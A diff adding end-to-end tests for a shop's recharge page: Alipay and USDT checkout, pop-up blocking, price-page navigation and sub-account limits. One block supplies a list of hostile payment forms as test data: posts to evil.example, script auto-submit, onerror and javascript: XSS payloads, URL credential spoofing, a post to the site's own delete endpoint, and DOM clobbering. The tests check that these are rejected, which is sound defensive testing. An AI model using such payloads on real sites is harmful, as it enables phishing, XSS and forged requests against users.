@@ -1,0 +1,193 @@
+import { beforeAll, describe, expect } from '@jest/globals';
+import type { Page, Route } from 'playwright-core';
+import { newChild, postAs, signIn } from './support/family.js';
+import { journey, newPerson, withBrowser } from './support/journey.js';
+import { logIn } from './support/people.js';
+import { atRecharge, ordersOf, payAtCashier, placeOrder, SAYS } from './support/shop.js';
+import { newMember, seen, signedInAt, type SignedIn } from './support/signed-in.js';
+
+withBrowser();
+
+const answering = async (page: Page, path: string, data: unknown): Promise<void> => {
+  await page.route(`**/client-user${path}*`, (route) => route.fulfill({ json: { success: true, data, msg: '' } }));
+};
+
+describe.each(['zh', 'en'] as const)('other ways to pay (%s)', (lang) => {
+  const say = SAYS[lang];
+  let member: SignedIn;
+  beforeAll(async () => {
+    member = await newMember();
+  });
+
+  journey('Alipay: the click opens a tab, the form goes there, and the dialog sees the payment', async () => {
+    const page = await signedInAt('/UserCenterRecharge', member, lang);
+    await atRecharge(page);
+    const opened = page.context().waitForEvent('page');
+    const no = await placeOrder(page, lang, 'alipay');
+    const tab = await opened;
+    await seen(page, say.inTab);
+    await tab.waitForURL((url) => url.pathname.endsWith(`/cashier/${no}`));
+    expect(await tab.evaluate(() => window.opener === null)).toBe(true);
+    await payAtCashier(no);
+    await seen(page, say.paid);
+    expect((await ordersOf(member))[0]).toMatchObject({ no, payChannel: 'ALI_NATIVE', payStatus: 'P' });
+    await page.context().close();
+  });
+
+  journey('Alipay with pop-ups blocked: the dialog has a button that opens it', async () => {
+    const page = await signedInAt('/UserCenterRecharge', member, lang);
+    await page.addInitScript(() => {
+      const open = window.open.bind(window);
+      let calls = 0;
+      window.open = (...given) => (calls++ === 0 ? null : open(...given));
+    });
+    await page.reload();
+    await atRecharge(page);
+    const no = await placeOrder(page, lang, 'alipay');
+    const opened = page.context().waitForEvent('page');
+    await page.getByRole('dialog').getByRole('button', { name: say.openTab, exact: true }).click();
+    await (await opened).waitForURL((url) => url.pathname.endsWith(`/cashier/${no}`));
+    await page.context().close();
+  });
+
+  journey('USDT: the configured page, told who buys what, and no order', async () => {
+    const page = await signedInAt('/favicon.svg', member, lang);
+    const config = JSON.stringify({ enabled: true, url: 'https://usdt.example.com/pay?shop=1' });
+    await answering(page, '/payInfo/channel', ['WC_NATIVE', 'USDT']);
+    await answering(page, '/dataCus/get', { id: 'USDT_PAY_INFO', valued: config });
+    await page.context().route('https://usdt.example.com/**', (route) => route.fulfill({ body: 'usdt' }));
+    await page.goto('/UserCenterRecharge?memberGroupId=4');
+    await atRecharge(page);
+    const before = (await ordersOf(member)).length;
+    await page.getByRole('spinbutton', { name: say.quantity }).fill('3');
+    await page.getByRole('radio', { name: /^USDT/ }).check();
+    const opened = page.context().waitForEvent('page');
+    await page.getByRole('button', { name: say.pay }).click();
+    const tab = await opened;
+    await tab.waitForURL(/usdt\.example\.com/);
+    expect(Object.fromEntries(new URL(tab.url()).searchParams)).toEqual({
+      shop: '1',
+      userId: String(member.userId),
+      nickname: member.username,
+      username: member.username,
+      memberGroupName: '高级版',
+      memberGroupId: '4',
+      salesNum: '3',
+    });
+    expect(await tab.evaluate(() => window.opener === null)).toBe(true);
+    expect((await ordersOf(member)).length).toBe(before);
+    await page.context().close();
+  });
+
+  journey('without any method it says so and points to customer service', async () => {
+    const page = await signedInAt('/favicon.svg', member, lang);
+    await answering(page, '/payInfo/channel', []);
+    await page.goto('/UserCenterRecharge');
+    await seen(page, say.noMethods);
+    expect(await page.getByRole('button', { name: say.pay }).isDisabled()).toBe(true);
+    await page.context().close();
+  });
+
+  journey('the price page leads here, through login, with the package chosen', async () => {
+    const { person, page } = await newPerson(lang);
+    await page.goto('/price');
+    await page.getByRole('radio', { name: say.standardMonthly }).check();
+    await page.getByRole('link', { name: say.select }).click();
+    await page.waitForURL(/\/login\?type=2$/);
+    await page.getByRole('link', { name: say.logIn, exact: true }).first().click();
+    await logIn(page, member, lang);
+    await page.waitForURL(/\/UserCenterRecharge\?memberGroupId=7$/);
+    await atRecharge(page);
+    expect(await page.getByRole('radio', { name: say.standardMonthly }).isChecked()).toBe(true);
+
+    await page.goto('/price');
+    await page.getByRole('radio', { name: say.high }).check();
+    await page.getByRole('link', { name: say.selectMember }).click();
+    await page.waitForURL(/\/UserCenterRecharge\?memberGroupId=4$/);
+    await atRecharge(page);
+    expect(await page.getByRole('radio', { name: say.high }).isChecked()).toBe(true);
+    await person.close();
+  });
+});
+
+const GOOD = { biz_content: '{"a":1}' };
+const hidden = (fields: Record<string, string>): string =>
+  Object.entries(fields)
+    .map(([name, value]) => `<input type="hidden" name="${name}" value="${value.replaceAll('"', '&quot;')}">`)
+    .join('');
+const form = (action: string, inside = hidden(GOOD), attributes = ''): string =>
+  `<form method="post" action="${action}" ${attributes}>${inside}</form>`;
+const SIGNED = 'method=alipay.trade.page.pay&amp;app_id=1&amp;sign=x';
+
+describe('a form that comes instead of the gateway’s', () => {
+  const say = SAYS.zh;
+  let member: SignedIn;
+  let page: Page;
+  beforeAll(async () => {
+    member = await newMember();
+    page = await signedInAt('/UserCenterRecharge', member, 'zh');
+    await atRecharge(page);
+    await page.getByRole('radio', { name: say.alipay, exact: true }).check();
+  });
+
+  const EVIL: [why: string, html: string][] = [
+    ['a script', `${form(`https://evil.example/?${SIGNED}`)}<script>document.forms[0].submit()</script>`],
+    ['a handler', form(`https://evil.example/?${SIGNED}`, hidden(GOOD), 'onsubmit="alert(1)"')],
+    ['a picture', `${form(`https://evil.example/?${SIGNED}`)}<img src=x onerror=alert(1)>`],
+    ['an address without TLS', form(`http://evil.example/?${SIGNED}`)],
+    ['an address of script', form(`javascript:alert(1)//?${SIGNED}`)],
+    ['an address with a password', form(`https://alipay.com:x@evil.example/?${SIGNED}`)],
+    ['an address of our own', form(`/client-user/user/delete?${SIGNED}`)],
+    ['no address', `<form method="post">${hidden({ ...GOOD, method: 'a', app_id: '1', sign: 'x' })}</form>`],
+    ['GET', form(`https://evil.example/?${SIGNED}`).replace('method="post"', 'method="get"')],
+    ['two forms', form(`https://evil.example/?${SIGNED}`).repeat(2)],
+    ['no form', '<p>paid</p>'],
+    ['nothing', ''],
+    ['no signature', form('https://evil.example/?method=alipay.trade.page.pay&amp;app_id=1')],
+    ['no content', form(`https://evil.example/?${SIGNED}`, '')],
+    ['a field to type in', form(`https://evil.example/?${SIGNED}`, `${hidden(GOOD)}<input name="password">`)],
+    [
+      'a button that posts elsewhere',
+      form(
+        `https://evil.example/?${SIGNED}`,
+        `${hidden(GOOD)}<input type="hidden" name="b" formaction="https://worse.example">`,
+      ),
+    ],
+    [
+      'a field that hides the form’s own methods',
+      form('http://evil.example/', hidden({ ...GOOD, getAttribute: 'x', submit: 'x', action: 'x' })),
+    ],
+  ];
+
+  journey.each(EVIL)('%s: nothing is submitted, and it is said', async (_why, html) => {
+    const abroad: string[] = [];
+    const watch = (route: Route): Promise<void> => {
+      abroad.push(route.request().url());
+      return route.abort();
+    };
+    await page.context().route(/evil\.example|worse\.example/, watch);
+    await answering(page, '/orderByMemberGroup/pay', { orderId: 1, orderNo: 'YQ1', scanQRCodeUrl: html });
+    const opened = page.context().waitForEvent('page');
+    await page.getByRole('button', { name: say.pay }).click();
+    const tab = await opened;
+    await page.getByText(say.badForm).waitFor();
+    if (!tab.isClosed()) await tab.waitForEvent('close');
+    expect(abroad).toEqual([]);
+    expect(await page.getByRole('dialog').count()).toBe(0);
+    await page.unroute('**/client-user/orderByMemberGroup/pay*');
+    await page.context().unroute(/evil\.example|worse\.example/);
+    await page.getByRole('radio', { name: SAYS.zh.wechat, exact: true }).check();
+    await page.getByRole('radio', { name: SAYS.zh.alipay, exact: true }).check();
+  });
+});
+
+describe('who may recharge', () => {
+  journey('a sub-account is told that it may not', async () => {
+    const main = await signIn(process.env['DEMO_ACCOUNT'] ?? 'demo', process.env['DEMO_PASSWORD'] ?? '');
+    const child = await newChild(main);
+    const page = await signedInAt('/UserCenterRecharge', await signIn(child.account, child.password), 'zh');
+    await seen(page, SAYS.zh.noPermission);
+    await page.context().close();
+    await postAs(main, '/user/delChild', { userId: child.userId });
+  });
+});
